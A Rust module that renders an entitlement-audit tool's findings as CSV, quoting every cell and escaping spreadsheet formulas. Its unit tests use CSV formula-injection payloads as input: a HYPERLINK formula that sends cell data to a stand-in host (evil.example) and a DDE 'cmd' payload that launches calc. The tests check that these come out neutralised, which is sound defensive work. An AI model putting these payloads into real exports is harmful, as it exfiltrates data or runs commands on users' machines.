//! The CSV report: one row per finding, then one per suppressed finding, for spreadsheets
//! and ticket imports.
//!
//! Columns: `fingerprint,rule_id,rule_name,severity,subject,entitlement,message,path,`
//! `source_file,source_line,suppressed,suppression_reason`. `path` is the privilege path as
//! `alice -member-of(standing)-> platform -assigned(standing)-> prod-admin`, empty when the
//! finding has none; `source_*` is the finding's first evidence record.
//!
//! An incomplete audit (a source not read in full, a rule that crashed) ends with one row per
//! coverage gap: `rule_id` `INCOMPLETE`, `rule_name` `coverage-gap`, the gap in `message`, the
//! other cells empty — so a spreadsheet of an incomplete audit never looks like a clean one.
//! A complete audit has no such row.
//!
//! Every cell goes through [`escape::csv_cell`] (formula injection), and every data cell is
//! quoted: a spreadsheet in a locale whose list separator is `;` or that splits on tabs would
//! otherwise cut an unquoted `a;=1+1` into a second cell that starts with `=`.

use super::{escape, write_chunked, ScanReport, CHUNK_ITEMS};
use crate::finding::Finding;
use std::fmt::Write as _;
use std::io::{self, Write};

/// The header row, fixed: a column is only ever added at the end.
pub const HEADER: [&str; 12] = [
    "fingerprint",
    "rule_id",
    "rule_name",
    "severity",
    "subject",
    "entitlement",
    "message",
    "path",
    "source_file",
    "source_line",
    "suppressed",
    "suppression_reason",
];

/// Renders findings and suppressed findings as CSV, header first, `\n` line endings.
pub fn render(report: &ScanReport) -> String {
    let mut out = Vec::new();
    write(report, &mut out).expect("writing CSV to memory cannot fail");
    String::from_utf8(out).expect("CSV built from Rust strings is UTF-8")
}

/// Streams the CSV report (see [`render`]): rows are rendered in parallel, chunk by chunk,
/// and written in order (see [`write_chunked`]).
pub fn write(report: &ScanReport, out: &mut dyn Write) -> io::Result<()> {
    write_with_chunks(report, out, CHUNK_ITEMS)
}

fn write_with_chunks(report: &ScanReport, out: &mut dyn Write, chunk: usize) -> io::Result<()> {
    // The header is constant and needs no quoting; written plainly it stays easy to match.
    out.write_all(HEADER.join(",").as_bytes())?;
    out.write_all(b"\n")?;
    write_chunked(&report.findings, out, chunk, |buf, _, finding| {
        row(buf, finding, None);
        Ok(())
    })?;
    write_chunked(&report.suppressed, out, chunk, |buf, _, s| {
        row(buf, &s.finding, Some(&s.reason));
        Ok(())
    })?;
    let mut buf = Vec::new();
    for gap in &report.coverage.gaps {
        let mut cells = [""; 12];
        cells[1] = "INCOMPLETE";
        cells[2] = "coverage-gap";
        cells[6] = gap;
        for (i, cell) in cells.into_iter().enumerate() {
            write_cell(&mut buf, i, cell);
        }
        buf.push(b'\n');
    }
    out.write_all(&buf)
}

/// One row, cells in [`HEADER`] order.
fn row(buf: &mut Vec<u8>, finding: &Finding, suppression_reason: Option<&str>) {
    let source = finding.primary_source();
    write_cell(buf, 0, &finding.fingerprint);
    write_cell(buf, 1, &finding.rule_id);
    write_cell(buf, 2, &finding.rule_name);
    write_cell(buf, 3, finding.severity.as_str());
    write_cell(buf, 4, &finding.subject);
    write_cell(buf, 5, finding.entitlement.as_deref().unwrap_or_default());
    write_cell(buf, 6, &finding.message);
    // The path is formatted straight into the cell: no String per row.
    buf.extend_from_slice(b",\"");
    if let Some(path) = &finding.evidence.path {
        let mut cell = CellWriter {
            buf,
            started: false,
        };
        write!(cell, "{path}").expect("writing to memory cannot fail");
    }
    buf.push(b'"');
    write_cell(buf, 8, source.map(|p| p.file()).unwrap_or_default());
    // A number needs neither quoting nor neutralising.
    buf.extend_from_slice(b",\"");
    if let Some(line) = source.and_then(|p| p.line) {
        io::Write::write_fmt(buf, format_args!("{line}")).expect("writing to memory cannot fail");
    }
    buf.push(b'"');
    write_cell(
        buf,
        10,
        if suppression_reason.is_some() {
            "true"
        } else {
            "false"
        },
    );
    write_cell(buf, 11, suppression_reason.unwrap_or_default());
    buf.push(b'\n');
}

/// Cell `index` of a row, as the `csv` crate writes it with `QuoteStyle::Always`: comma
/// separated, always quoted, quotes doubled; after [`escape::csv_cell`].
fn write_cell(buf: &mut Vec<u8>, index: usize, cell: &str) {
    if index > 0 {
        buf.push(b',');
    }
    buf.push(b'"');
    push_quoted(buf, &escape::csv_cell(cell));
    buf.push(b'"');
}

/// Text inside a quoted cell: quotes doubled.
fn push_quoted(buf: &mut Vec<u8>, text: &str) {
    let mut parts = text.split('"');
    if let Some(first) = parts.next() {
        buf.extend_from_slice(first.as_bytes());
    }
    for part in parts {
        buf.extend_from_slice(b"\"\"");
        buf.extend_from_slice(part.as_bytes());
    }
}

/// The inside of a quoted cell whose text is formatted piece by piece: the first non-empty
/// piece starts the cell, so it is the one [`escape::csv_cell`] neutralises.
struct CellWriter<'a> {
    buf: &'a mut Vec<u8>,
    started: bool,
}

impl std::fmt::Write for CellWriter<'_> {
    fn write_str(&mut self, s: &str) -> std::fmt::Result {
        if self.started {
            push_quoted(self.buf, s);
        } else if !s.is_empty() {
            self.started = true;
            push_quoted(self.buf, &escape::csv_cell(s));
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::report::test_support::{report_with_subject, sample_report};

    fn parse(text: &str) -> Vec<Vec<String>> {
        ::csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(text.as_bytes())
            .records()
            .map(|r| r.expect("valid CSV").iter().map(str::to_string).collect())
            .collect()
    }

    #[test]
    fn header_then_findings_then_suppressed() {
        let report = sample_report();
        let text = render(&report);
        assert!(text.starts_with(
            "fingerprint,rule_id,rule_name,severity,subject,entitlement,message,path,source_file,source_line,suppressed,suppression_reason\n"
        ));
        let rows = parse(&text);
        assert_eq!(rows.len(), 4);
        assert!(rows.iter().all(|r| r.len() == HEADER.len()));

        let first = &rows[1];
        assert_eq!(first[0], report.findings[0].fingerprint);
        assert_eq!(first[1], "SP001");
        assert_eq!(first[3], "high");
        assert_eq!(first[4], "alice@acme.example");
        assert_eq!(first[5], "prod-admin");
        assert_eq!(
            first[7],
            "alice@acme.example -member-of(standing)-> platform -assigned(standing)-> prod-admin"
        );
        assert_eq!(first[8], "okta/groups.json");
        assert_eq!(first[9], "12");
        assert_eq!(first[10], "false");
        assert_eq!(first[11], "");

        let no_path = &rows[2];
        assert_eq!(no_path[1], "SC001");
        assert_eq!((no_path[5].as_str(), no_path[7].as_str()), ("", ""));

        let suppressed = &rows[3];
        assert_eq!(suppressed[1], "SP004");
        assert_eq!(suppressed[8], "okta/assignments.json");
        assert_eq!(
            suppressed[9], "",
            "a record locator without a line leaves the line empty"
        );
        assert_eq!(suppressed[10], "true");
        assert_eq!(suppressed[11], "Finance quarter close; removal scheduled.");
    }

    #[test]
    fn formula_subjects_are_neutralised() {
        let hostile = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")";
        let rows = parse(&render(&report_with_subject(hostile)));
        assert_eq!(rows[1][4], format!("'{hostile}"));
        let rows = parse(&render(&report_with_subject("=cmd|' /C calc'!A0")));
        assert_eq!(rows[1][4], "'=cmd|' /C calc'!A0");
        // The path starts with the subject too, and is neutralised the same way.
        let mut report = report_with_subject("@SUM(1+1)");
        if let Some(path) = report.findings[0].evidence.path.as_mut() {
            std::sync::Arc::make_mut(&mut path.hops[0]).from.id = "@SUM(1+1)".into();
        }
        let rows = parse(&render(&report));
        assert_eq!(rows[1][4], "'@SUM(1+1)");
        assert!(
            rows[1][7].starts_with("'@SUM(1+1) -member-of"),
            "{}",
            rows[1][7]
        );
    }

    #[test]
    fn separators_and_newlines_stay_inside_the_cell() {
        let hostile = "a,b;=1+1\n\"c\"";
        let text = render(&report_with_subject(hostile));
        let rows = parse(&text);
        assert_eq!(rows.len(), 4);
        assert_eq!(rows[1][4], hostile);
        assert!(text.contains("\"a,b;=1+1\n\"\"c\"\"\""), "{text}");
    }

    /// The report as the `csv` crate wrote it before rows were rendered in parallel.
    fn with_csv_crate(report: &ScanReport) -> String {
        let mut out = HEADER.join(",").into_bytes();
        out.push(b'\n');
        let mut writer = ::csv::WriterBuilder::new()
            .quote_style(::csv::QuoteStyle::Always)
            .from_writer(&mut out);
        let rows = report.findings.iter().map(|f| (f, None)).chain(
            report
                .suppressed
                .iter()
                .map(|s| (&s.finding, Some(s.reason.as_str()))),
        );
        for (f, reason) in rows {
            let source = f.primary_source();
            let cells = [
                f.fingerprint.clone(),
                f.rule_id.clone(),
                f.rule_name.clone(),
                f.severity.as_str().to_string(),
                f.subject.clone(),
                f.entitlement.clone().unwrap_or_default(),
                f.message.clone(),
                f.evidence
                    .path
                    .as_ref()
                    .map(ToString::to_string)
                    .unwrap_or_default(),
                source.map(|p| p.file().to_string()).unwrap_or_default(),
                source
                    .and_then(|p| p.line)
                    .map(|l| l.to_string())
                    .unwrap_or_default(),
                reason.is_some().to_string(),
                reason.unwrap_or_default().to_string(),
            ];
            writer
                .write_record(cells.iter().map(|c| escape::csv_cell(c).into_owned()))
                .expect("writes");
        }
        for gap in &report.coverage.gaps {
            let mut cells: [String; 12] = Default::default();
            cells[1] = "INCOMPLETE".into();
            cells[2] = "coverage-gap".into();
            cells[6] = gap.clone();
            writer
                .write_record(cells.iter().map(|c| escape::csv_cell(c).into_owned()))
                .expect("writes");
        }
        writer.flush().expect("flushes");
        drop(writer);
        String::from_utf8(out).expect("UTF-8")
    }

    #[test]
    fn chunked_rows_are_the_csv_crates_rows() {
        let mut hostile = report_with_subject("=a,\"b\"\n;c");
        if let Some(path) = hostile.findings[0].evidence.path.as_mut() {
            std::sync::Arc::make_mut(&mut path.hops[0]).from.id = "".into();
            std::sync::Arc::make_mut(&mut path.hops[0]).to.id = "-\"x\"".into();
        }
        hostile.findings[1].message = "\"quoted\"\r\n@".into();
        hostile.findings[1].entitlement = Some("+1".into());
        hostile.suppressed[0].reason = "\"".into();
        hostile.coverage.complete = false;
        hostile.coverage.gaps = vec!["rule SP001 crashed: \"boom\"".into(), "=gap".into()];
        let mut many = report_with_subject("@x");
        let (one, two) = (many.findings[0].clone(), many.findings[1].clone());
        many.findings = (0..50)
            .map(|i| {
                let mut f = if i % 2 == 0 { one.clone() } else { two.clone() };
                f.subject = format!("user-{i}");
                f
            })
            .collect();
        many.suppressed = many.suppressed.iter().cycle().take(20).cloned().collect();
        let mut empty = sample_report();
        empty.findings.clear();
        empty.suppressed.clear();
        for report in [sample_report(), hostile, many, empty] {
            let expected = with_csv_crate(&report);
            assert_eq!(render(&report), expected);
            for chunk in [1, 2, 3, 7, 1000] {
                let mut out = Vec::new();
                write_with_chunks(&report, &mut out, chunk).expect("writes to memory");
                assert_eq!(
                    String::from_utf8(out).expect("UTF-8"),
                    expected,
                    "chunk {chunk}"
                );
            }
        }
    }

    #[test]
    fn rendering_twice_gives_identical_output() {
        let report = sample_report();
        assert_eq!(render(&report), render(&report));
    }
}
